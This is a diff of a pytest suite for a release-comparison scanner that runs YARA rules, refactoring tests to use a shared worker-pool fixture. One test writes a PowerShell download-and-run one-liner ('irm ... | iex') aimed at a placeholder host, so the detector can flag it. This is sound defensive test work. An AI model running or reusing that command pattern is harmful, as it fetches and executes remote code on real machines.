@@ -27,9 +27,8 @@ def pair(tmp_path: Path) -> tuple[Path, Path]:
     return old, new
 
 
-def peeled(pair: tuple[Path, Path], *rules: Path) -> PeelReport:
-    with Pool(workers=1) as pool:
-        (report,) = peel([pair[1]], pool=pool, against=[pair[0]], rules=rules)
+def peeled(pool: Pool, pair: tuple[Path, Path], *rules: Path) -> PeelReport:
+    (report,) = peel([pair[1]], pool=pool, against=[pair[0]], rules=rules)
     return report
 
 
@@ -45,9 +44,9 @@ def written(folder: Path, **files: str) -> Path:
 
 
 def test_rules_of_one_name_in_two_files_are_two_rules(
-    pair: tuple[Path, Path], tmp_path: Path
+    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
 ) -> None:
-    report = peeled(pair, written(tmp_path, one=WORD % "same", two=WORD % "same"))
+    report = peeled(pool, pair, written(tmp_path, one=WORD % "same", two=WORD % "same"))
     assert matched(report) == {("one.yar", "same"), ("two.yar", "same")}
     # Of one place, so one finding; it names both.
     (finding,) = report.findings
@@ -57,10 +56,10 @@ def test_rules_of_one_name_in_two_files_are_two_rules(
 
 
 def test_a_broken_rule_is_named_by_file_and_line_and_the_others_run(
-    pair: tuple[Path, Path], tmp_path: Path
+    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
 ) -> None:
     broken = '\nrule bad { strings: $a = "x" condition: $b }\n'
-    report = peeled(pair, written(tmp_path, one=WORD % "good" + broken, two=WORD % "other"))
+    report = peeled(pool, pair, written(tmp_path, one=WORD % "good" + broken, two=WORD % "other"))
     assert matched(report) == {("one.yar", "good"), ("two.yar", "other")}
     (problem,) = [each for each in report.problems if each.reason == "broken-rule"]
     assert problem.detail == "one.yar, line 3: unknown pattern `$b`; the other rules were run"
@@ -68,16 +67,16 @@ def test_a_broken_rule_is_named_by_file_and_line_and_the_others_run(
     assert "broken-rule (1)" in report.reasons
 
 
-def test_an_include_reads_no_file(pair: tuple[Path, Path], tmp_path: Path) -> None:
+def test_an_include_reads_no_file(pair: tuple[Path, Path], tmp_path: Path, pool: Pool) -> None:
     (tmp_path / "other.yar").write_text(WORD % "included")
     source = f'include "{tmp_path / "other.yar"}"\n' + WORD % "own"
-    report = peeled(pair, written(tmp_path, one=source))
+    report = peeled(pool, pair, written(tmp_path, one=source))
     assert matched(report) == {("one.yar", "own")}
     assert "include statements not allowed" in str(report.problems)
 
 
 def test_modules_privates_globals_and_tags_work_and_a_missing_external_breaks_its_rule_alone(
-    pair: tuple[Path, Path], tmp_path: Path
+    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
 ) -> None:
     source = (
         'import "pe" import "elf" import "math" import "hash"\n'
@@ -86,54 +85,55 @@ def test_modules_privates_globals_and_tags_work_and_a_missing_external_breaks_it
         "rule tagged : first second { condition: hidden and not pe.is_pe and math.entropy(0, filesize) > 1 }\n"
         "rule external { condition: some_variable == 1 }\n"
     )
-    report = peeled(pair, written(tmp_path, one=source))
+    report = peeled(pool, pair, written(tmp_path, one=source))
     rules = {one.rule: one for layer in report.layers for one in layer.all(RuleMatch)}
     assert rules["tagged"].tags == ("first", "second")
     assert "hidden" not in rules
     assert "one.yar, line 5: unknown identifier `some_variable`" in str(report.problems)
 
 
-def test_serialised_rules_are_never_loaded(pair: tuple[Path, Path], tmp_path: Path) -> None:
+def test_serialised_rules_are_never_loaded(
+    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
+) -> None:
     import yara_x
 
     compiled = tmp_path / "pack.yar"
     with compiled.open("wb") as file:
         yara_x.compile(WORD % "inside").serialize_into(file)
-    report = peeled(pair, compiled)
+    report = peeled(pool, pair, compiled)
     assert not matched(report)
     assert "pack.yar, line 1" in str(report.problems)
 
 
-def test_a_rule_that_matched_the_file_before_is_no_news(tmp_path: Path) -> None:
+def test_a_rule_that_matched_the_file_before_is_no_news(tmp_path: Path, pool: Pool) -> None:
     pair = tmp_path / "old.txt", tmp_path / "new.txt"
     pair[0].write_text("an inert marker\n")
     pair[1].write_text("an inert marker, and more\n")
-    report = peeled(pair, written(tmp_path, one=WORD % "same"))
+    report = peeled(pool, pair, written(tmp_path, one=WORD % "same"))
     assert matched(report) == {("one.yar", "same")}
     assert not report.findings
 
 
 def test_the_place_and_the_words_of_a_rule_stand_in_its_match(
-    pair: tuple[Path, Path], tmp_path: Path
+    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
 ) -> None:
     source = (
         'rule told { meta: technique = "T1027" description = "a marker" '
         'strings: $a = "inert marker" condition: $a }'
     )
-    report = peeled(pair, written(tmp_path, one=source))
+    report = peeled(pool, pair, written(tmp_path, one=source))
     (finding,) = report.findings
     assert finding.evidence[0].offset == pair[1].read_text().index("inert marker")
     assert "(T1027): a marker" in finding.summary
 
 
 def test_rules_run_behind_walls_in_workers_of_their_own(
-    pair: tuple[Path, Path], tmp_path: Path
+    pair: tuple[Path, Path], tmp_path: Path, pool: Pool
 ) -> None:
-    with Pool(workers=1) as pool:
-        pack = written(tmp_path, one=WORD % "own")
-        (report,) = peel([pair[1]], pool=pool, against=[pair[0]], rules=[pack])
-        assert matched(report) == {("one.yar", "own")}
-        assert pool.generating().isolation == pool.isolation == report.isolation
+    pack = written(tmp_path, one=WORD % "own")
+    (report,) = peel([pair[1]], pool=pool, against=[pair[0]], rules=[pack])
+    assert matched(report) == {("one.yar", "own")}
+    assert pool.generating().isolation == pool.isolation == report.isolation
     assert not any("no YARA rule" in each for each in report.notes)
 
 
@@ -152,42 +152,42 @@ def test_an_engine_that_is_refused_is_said_and_the_rest_goes_on(
             list(peel([pair[1]], pool=pool, against=[pair[0]], rules=[pack]))
 
 
-def test_rules_want_a_release_before(pair: tuple[Path, Path], tmp_path: Path) -> None:
+def test_rules_want_a_release_before(pair: tuple[Path, Path], tmp_path: Path, pool: Pool) -> None:
     pack = written(tmp_path, one=WORD % "own")
-    with Pool(workers=1) as pool, pytest.raises(InputError, match="differs"):
+    with pytest.raises(InputError, match="differs"):
         list(peel([pair[1]], pool=pool, rules=[pack]))
 
 
-def test_a_folder_without_rules_and_a_file_that_is_not_there_are_errors(tmp_path: Path) -> None:
+def test_a_folder_without_rules_and_a_file_that_is_not_there_are_errors(
+    tmp_path: Path, pool: Pool
+) -> None:
     (tmp_path / "empty").mkdir()
-    with Pool(workers=1) as pool:
-        for path in (tmp_path / "empty", tmp_path / "nowhere.yar"):
-            with pytest.raises(InputError), prepared(pool, [path]):
-                pass
+    for path in (tmp_path / "empty", tmp_path / "nowhere.yar"):
+        with pytest.raises(InputError), prepared(pool, [path]):
+            pass
 
 
 def test_without_yara_the_rules_are_not_run_and_the_hint_says_what_to_install(
-    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, pool: Pool
 ) -> None:
     from onionskin.peel import rule_packs
     from onionskin.peel.wire import Compiled
 
     refused = Compiled(0, (), "yara-x is not installed (yara_x)")
     monkeypatch.setattr(rule_packs, "_compiled", lambda *_: refused)
-    with Pool(workers=1) as pool:
-        with prepared(pool, []) as pack:
-            assert isinstance(pack, Problem)
-            assert pack.reason == "no-yara"
-        with (
-            pytest.raises(InputError) as caught,
-            prepared(pool, [written(tmp_path, one=WORD % "a")]),
-        ):
-            pass
-        assert caught.value.hint == "install onionskin[yara]"
+    with prepared(pool, []) as pack:
+        assert isinstance(pack, Problem)
+        assert pack.reason == "no-yara"
+    with (
+        pytest.raises(InputError) as caught,
+        prepared(pool, [written(tmp_path, one=WORD % "a")]),
+    ):
+        pass
+    assert caught.value.hint == "install onionskin[yara]"
 
 
-def test_the_house_s_own_rules_are_sound_and_say_what_innocence_is() -> None:
-    with Pool(workers=1) as pool, prepared(pool, []) as pack:
+def test_the_house_s_own_rules_are_sound_and_say_what_innocence_is(pool: Pool) -> None:
+    with prepared(pool, []) as pack:
         assert isinstance(pack, RulePack)
         assert not pack.problems
         assert pack.count >= 19
@@ -199,14 +199,14 @@ def test_the_house_s_own_rules_are_sound_and_say_what_innocence_is() -> None:
 
 
 def test_three_letters_in_a_binary_are_no_script_and_a_control_letter_hides_none(
-    tmp_path: Path,
+    tmp_path: Path, pool: Pool
 ) -> None:
     pair = tmp_path / "old.bin", tmp_path / "new.bin"
     pair[0].write_bytes(b"ITSF\3\0\0\0" + bytes(64))
     pair[1].write_bytes(b"ITSF\3\0\0\0\x81irm\x90\2\0..\x99iex\7" + bytes(64))
-    assert not matched(peeled(pair))
+    assert not matched(peeled(pool, pair))
     pair[1].write_bytes(b"# \1\2\0\nirm https://one.example/inert | iex\n")
-    assert matched(peeled(pair)) == {("onionskin/scripts.yar", "download_and_run_powershell")}
+    assert matched(peeled(pool, pair)) == {("onionskin/scripts.yar", "download_and_run_powershell")}
 
 
 def test_a_large_file_is_scanned_by_parts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
